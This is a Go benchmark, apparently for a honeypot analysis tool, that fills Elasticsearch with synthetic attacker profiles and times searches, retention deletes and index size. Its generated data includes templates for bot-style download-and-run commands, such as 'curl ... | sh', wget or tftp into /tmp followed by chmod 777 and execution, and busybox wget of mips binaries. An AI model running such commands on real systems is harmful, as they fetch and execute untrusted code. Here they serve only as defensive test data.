package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math"
	"math/rand/v2"
	"net/netip"
	"slices"
	"time"

	"dossier/analyst"
	"dossier/esindex"
	"dossier/operate"
	"dossier/plugin/options"
	"dossier/profile"
)

// large is the index prefix of the parts fill, search and retain. They have a
// node of their own, called large, whose documents stay from one part to the
// next and from one run to the next.
const large = "bench-large"

// past is over how many days the attackers of the part fill were last seen:
// half of them have expired by dossier retain's default.
const past = 730

// largeOptions are the outputs' options for that prefix.
func (b *bench) largeOptions() (options.Options, error) {
	p := map[string]string{"es_hosts": b.node.URL, "index_prefix": large, "sensor_id": "bench"}
	return options.Parse(func(key string) string { return p[key] }, func(string) {})
}

// openLarge returns that prefix as an operator has it.
func (b *bench) openLarge() (*operate.Target, error) {
	o, err := b.largeOptions()
	if err != nil {
		return nil, err
	}
	return operate.Open(o, "bench")
}

// fill writes attackers' documents by plain bulk until there are as many as are
// asked for: with the fields by which they are searched, sorted and deleted, as
// many values and as unevenly as decoys see them, and a state too small to be a
// real one. It begins behind those that are there.
func (b *bench) fill(ctx context.Context) error {
	t, err := b.openLarge()
	if err != nil {
		return err
	}
	defer t.Close()
	if err := t.Setup(ctx, operate.Setup{Roles: "off"}, func(esindex.Step) {}); err != nil {
		return err
	}
	index := large + "-attackers"
	if _, err := b.ask(ctx, "POST", "/"+index+"/_refresh", nil); err != nil {
		return err
	}
	answer, err := b.ask(ctx, "GET", "/"+index+"/_count", nil)
	if err != nil {
		return err
	}
	there, _ := answer["count"].(float64)
	first, sent := int(there), 0
	start := time.Now()
	f := filler{now: start}
	if err := b.sendAll(ctx, "/"+index, func(yield func([]byte) bool) {
		for n := first; n < b.attackers; {
			var body bytes.Buffer
			for range min(2500, b.attackers-n) {
				f.append(&body, n)
				n++
			}
			sent += body.Len()
			if !yield(body.Bytes()) {
				return
			}
		}
	}); err != nil {
		return err
	}
	if n := b.attackers - first; n > 0 {
		b.report.add(figure{
			What: "filler: attackers by plain bulk", Value: float64(n) / time.Since(start).Seconds(), Unit: "documents/s",
			Note: fmt.Sprintf("%d documents of %d bytes", n, sent/n),
		})
	}
	return b.size(ctx, fmt.Sprintf("%d attackers", b.attackers))
}

// size adds what the node says of its disk and heap.
func (b *bench) size(ctx context.Context, when string) error {
	if _, err := b.ask(ctx, "POST", "/"+large+"-attackers/_flush", nil); err != nil {
		return err
	}
	stats, err := b.ask(ctx, "GET", "/"+large+"-attackers/_stats/store,docs,segments", nil)
	if err != nil {
		return err
	}
	of := func(path ...string) float64 {
		f, _ := dig(stats, append([]string{"_all", "primaries"}, path...)...).(float64)
		return f
	}
	b.report.add(figure{
		What: "disk, " + when, Value: of("store", "size_in_bytes"), Unit: "bytes",
		Note: fmt.Sprintf("%.0f documents, %.0f deleted and not yet merged away, %.0f segments", of("docs", "count"), of("docs", "deleted"), of("segments", "count")),
	})
	nodes, err := b.ask(ctx, "GET", "/_nodes/stats/jvm", nil)
	if err != nil {
		return err
	}
	all, _ := nodes["nodes"].(map[string]any)
	for _, n := range all {
		used, _ := dig(n, "jvm", "mem", "heap_used_in_bytes").(float64)
		most, _ := dig(n, "jvm", "mem", "heap_max_in_bytes").(float64)
		peak, _ := dig(n, "jvm", "mem", "pools", "old", "peak_used_in_bytes").(float64)
		b.report.add(figure{What: "heap in use, " + when, Value: used, Unit: "bytes", Note: fmt.Sprintf("of %.0f; its old part %.0f at the most so far", most, peak)})
	}
	return nil
}

// search measures how long dossier search takes, by what is searched for.
func (b *bench) search(ctx context.Context) error {
	const searches, rows = 100, 50
	o, err := b.largeOptions()
	if err != nil {
		return err
	}
	r, err := analyst.Open(o, "bench")
	if err != nil {
		return err
	}
	defer r.Close()
	answer, err := b.ask(ctx, "GET", "/"+large+"-attackers/_count", nil)
	if err != nil {
		return err
	}
	count, _ := answer["count"].(float64)
	rng := rand.New(rand.NewPCG(20261128, 1))
	for _, kind := range []struct {
		name string
		ask  func() analyst.Query
	}{
		{"part of a command", func() analyst.Query { return analyst.Query{Command: partOf(commandLine(uneven(rng, commands)), rng)} }},
		{"credential", func() analyst.Query {
			user, secret := credential(uneven(rng, credentials))
			return analyst.Query{Credential: user + ":" + secret}
		}},
		{"fingerprint", func() analyst.Query {
			return analyst.Query{Fingerprint: digest("hassh", uneven(rng, fingerprints), 32)}
		}},
		{"campaign", func() analyst.Query { return analyst.Query{Campaign: []string{campaignKey(uneven(rng, campaigns))}} }},
		{"technique", func() analyst.Query { return analyst.Query{Technique: techniques[rng.IntN(len(techniques))]} }},
		{"port", func() analyst.Query { return analyst.Query{Port: fmt.Sprint(ports[uneven(rng, len(ports))])} }},
		{"country", func() analyst.Query { return analyst.Query{Country: countries[uneven(rng, len(countries))]} }},
	} {
		var took []time.Duration
		found := 0
		for range searches {
			q := kind.ask()
			q.Limit = rows
			start := time.Now()
			if err := r.Each(ctx, q, func(analyst.Text, error) {}, func(*analyst.Profile) error { found++; return nil }); err != nil {
				return err
			}
			took = append(took, time.Since(start))
		}
		slices.Sort(took)
		for _, p := range []int{50, 95} {
			b.report.add(figure{
				What: fmt.Sprintf("search by %s, p%d", kind.name, p), Value: float64(took[len(took)*p/100].Microseconds()) / 1000, Unit: "ms",
				Note: fmt.Sprintf("%d searches among %.0f attackers, the first %d of those found: %d rows in all", searches, count, rows, found),
			})
		}
	}
	return b.size(ctx, "after the searches")
}

// retain measures dossier retain on what the part fill wrote.
func (b *bench) retain(ctx context.Context) error {
	t, err := b.openLarge()
	if err != nil {
		return err
	}
	defer t.Close()
	before, err := b.nodeTime(ctx)
	if err != nil {
		return err
	}
	start := time.Now()
	said := ""
	if err := t.Retain(ctx, operate.DefaultAges(), false, func(s esindex.Step) {
		if s.Name == large+"-attackers" {
			said = s.Done
			fmt.Println("   ", said)
		}
	}); err != nil {
		return err
	}
	took := time.Since(start)
	used, err := b.since(ctx, before)
	if err != nil {
		return err
	}
	deleted := 0
	if _, err := fmt.Sscanf(said, "%d deleted", &deleted); err != nil {
		return fmt.Errorf("%q: %w", said, err)
	}
	if deleted == 0 {
		return fmt.Errorf("nothing has expired: run the part fill first")
	}
	b.report.add(figure{
		What: "retain: attackers deleted", Value: float64(deleted) / took.Seconds(), Unit: "documents/s",
		Note: fmt.Sprintf("%d in %.0f s; %.3f ms of the node's processor time each", deleted, took.Seconds(), float64(used.Microseconds())/1000/float64(deleted)),
	})
	if err := b.size(ctx, "after retain"); err != nil {
		return err
	}
	start = time.Now()
	if _, err := b.ask(ctx, "POST", "/"+large+"-attackers/_forcemerge?only_expunge_deletes=true", nil); err != nil {
		return err
	}
	b.report.add(figure{What: "_forcemerge?only_expunge_deletes", Value: time.Since(start).Seconds(), Unit: "s"})
	return b.size(ctx, "after that merge")
}

// How many values there are of what attackers share.
const (
	commands     = 50_000
	credentials  = 100_000
	fingerprints = 5_000
	campaigns    = 20_000
)

var (
	countries  = []string{"CN", "US", "RU", "DE", "NL", "BR", "IN", "VN", "ID", "FR", "GB", "KR", "SG", "HK", "UA", "TR", "IR", "PL", "IT", "CA", "JP", "TH", "AR", "MX", "EG", "ZA", "RO", "BG", "SE", "ES"}
	ports      = []int{22, 23, 445, 80, 2222, 3389, 443, 5060, 25, 3306, 1433, 6379, 8080, 21, 5900, 5432, 8443, 9200, 27017, 11211, 502, 1883, 161, 123, 53, 110, 143, 587, 8888, 7547}
	services   = []string{"ssh", "telnet", "smb", "http", "ssh", "rdp", "https", "sip", "smtp", "mysql"}
	techniques = []string{
		"T1110", "T1110.001", "T1059", "T1059.004", "T1105", "T1046", "T1595", "T1595.002", "T1496", "T1078", "T1070.003", "T1082", "T1033", "T1053.003",
		"T1098.004", "T1222.002", "T1016", "T1049", "T1057", "T1083", "T1018", "T1021.004", "T1190", "T1133", "T1505.003", "T1562.001", "T1140", "T1027", "T1003.008", "T1565.001",
	}
	verbs = []string{"wget http://%s/%s -O /tmp/%[2]s", "curl -sL http://%s/%s | sh", "cd /tmp; tftp -g -r %[2]s %[1]s", "chmod 777 /tmp/%[2]s; /tmp/%[2]s %[1]s", "echo %s > /var/tmp/.%s", "uname -a; nproc; ping -c 1 %s # %s", "crontab -l | grep %s; pkill %s", "busybox wget http://%s/bins/%s.mips"}
)

// uneven draws from n values, of which the k-th comes about 1/k as often as the
// first.
func uneven(r *rand.Rand, n int) int {
	return int(math.Exp(r.Float64()*math.Log(float64(n)))) - 1
}

func digest(what string, n, digits int) string {
	r := rand.New(rand.NewPCG(uint64(n), uint64(len(what))))
	s := ""
	for len(s) < digits {
		s += fmt.Sprintf("%016x", r.Uint64())
	}
	return s[:digits]
}

func machine(n int) string { return fmt.Sprintf("198.%d.%d.%d", 18+n&1, n>>9&255, n>>1&255) }

func commandLine(n int) string {
	return fmt.Sprintf(verbs[n%len(verbs)], machine(n), "x"+digest("file", n/3, 5))
}

// partOf returns what somebody would look for in a line: its host, its first
// word or its file.
func partOf(line string, r *rand.Rand) string {
	words := bytes.FieldsFunc([]byte(line), func(c rune) bool { return c == ' ' || c == '/' || c == ';' })
	return string(words[r.IntN(len(words))])
}

func credential(n int) (user, secret string) {
	users := []string{"root", "admin", "ubuntu", "oracle", "postgres", "test", "user", "git", "pi", "support"}
	return users[n%len(users)], fmt.Sprintf("%s%d", users[n/7%len(users)], n)
}

func campaignKey(n int) string { return digest("campaign", n, 16) }

// habits is how many attackers of the part fill are made up anew: those behind them
// do what one of these did, in another order and at another time.
const habits = 20_000

// filler makes up the documents of the part fill.
type filler struct {
	now    time.Time
	habits [][]byte // what the first attackers did
}

// append appends the operation that writes the n-th attacker.
func (f *filler) append(to *bytes.Buffer, n int) {
	r := rand.New(rand.NewPCG(uint64(n), 7))
	addr := netip.AddrFrom4([4]byte{byte(n>>24 + 1), byte(n >> 16), byte(n >> 8), byte(n)})
	for len(f.habits) <= min(n, habits-1) {
		k := len(f.habits)
		f.habits = append(f.habits, habit(rand.New(rand.NewPCG(uint64(k), 8)), ""))
	}
	did := f.habits[r.IntN(len(f.habits))]
	if n%30 == 0 {
		did = habit(r, fmt.Sprintf("wget http://%s/%d.sh", addr, n)) // nobody else's
	}
	const form = "2006-01-02T15:04:05.000000Z"
	last := f.now.Add(-time.Duration(r.Float64() * past * float64(24*time.Hour))).UTC()
	first := last.Add(-time.Duration(r.ExpFloat64() * float64(72*time.Hour)))
	fmt.Fprintf(to, "{\"index\":{\"_id\":%q}}\n{\"ip\":%[1]q,\"uuid\":\"%016x%016x\",\"first_seen\":%q,\"last_seen\":%q,\"updated_at\":%[5]q,%s\n",
		addr, r.Uint64(), r.Uint64(), first.Format(form), last.Format(form), did[1:])
}

// habit returns what an attacker did, as the rest of its document, with one more
// command unless that is "".
func habit(r *rand.Rand, own string) []byte {
	some := func(most, of int, value func(int) string) []string {
		var list []string
		for range r.IntN(most + 1) {
			list = append(list, value(uneven(r, of)))
		}
		slices.Sort(list)
		return slices.Compact(list)
	}
	var user, secret, pair []string
	for range r.IntN(9) {
		u, s := credential(uneven(r, credentials))
		user, secret, pair = append(user, u), append(secret, s), append(pair, u+":"+s)
	}
	line := some(4, commands, commandLine)
	if own != "" {
		line = append(line, own)
	}
	state := make([]byte, 150)
	for i := range state {
		state[i] = byte(r.Uint32())
	}
	port := uneven(r, len(ports))
	body, err := json.Marshal(map[string]any{
		"schema_version": profile.SchemaVersion, "event_count": 1 + uneven(r, 100_000),
		"country_code": countries[uneven(r, len(countries))], "asn": 1000 + uneven(r, 60_000), "sensors": []string{fmt.Sprint("s", r.IntN(7))},
		"deckies":  some(3, 40, func(i int) string { return fmt.Sprint("decky-", i) }),
		"services": []string{services[port%len(services)]}, "port": map[string]any{"name": []string{fmt.Sprint("tcp/", ports[port])}},
		"command": map[string]any{"line": line}, "credential": map[string]any{"username": user, "password": secret, "pair": pair},
		"fingerprint": map[string]any{
			"hassh": some(1, fingerprints, func(i int) string { return digest("hassh", i, 32) }),
			"ja4":   some(1, fingerprints, func(i int) string { return "t13d" + digest("ja4", i, 30) }),
		},
		"campaign": map[string]any{"keys": some(2, campaigns, campaignKey)},
		"threat":   map[string]any{"technique": map[string]any{"id": some(5, len(techniques), func(i int) string { return techniques[i] })}},
		"risk":     map[string]any{"score": math.Round(r.Float64() * r.Float64() * 100), "level": "Moderate"}, "behavior": map[string]any{"class": "bruteforce"}, "classification": "malicious",
		"state": base64.StdEncoding.EncodeToString(state),
	})
	if err != nil {
		panic(err) // of strings and numbers
	}
	return body
}
